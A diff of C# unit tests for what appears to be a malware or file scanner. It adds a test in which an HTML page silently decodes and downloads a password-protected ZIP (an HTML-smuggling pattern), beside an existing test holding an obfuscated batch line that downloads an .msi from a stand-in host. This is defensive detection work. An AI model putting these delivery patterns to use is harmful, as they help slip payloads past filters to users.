@@ -27,6 +27,14 @@ public sealed class ScriptFileTests
         Fetched([0xff, 0xfe, .. "&cls\r\n@echo off\r\nset k=https:/\r\ncurl %k%/b3.example/a.msi -o a.msi\r\n"u8], "a.bat").ShouldContain("https://b3.example/a.msi");
 
     [Fact]
+    public void A_page_tells_the_password_of_the_archive_that_it_hands_over()
+    {
+        var archive = Convert.ToBase64String(ZipWriter.Write([("a.txt", "inside"u8.ToArray())], "abc888", ZipProtection.ZipCrypto));
+        var page = $"<html><body><p>Your file password: <b>abc888</b></p><script>var b=atob('{archive}'),u=new Uint8Array(b.length);for(var i=0;i<b.length;i++)u[i]=b.charCodeAt(i);var a=document.createElement('a');a.href=URL.createObjectURL(new Blob([u]));a.download='x.zip';a.click();</script></body></html>";
+        Scan(Encoding.UTF8.GetBytes(page), "page.html").Artifacts.ShouldContain(file => file.Name == "a.txt");
+    }
+
+    [Fact]
     public void A_note_beside_an_archive_tells_its_password()
     {
         var inner = ZipWriter.Write([("a.txt", "inside"u8.ToArray())], "Tt66-1", ZipProtection.ZipCrypto);
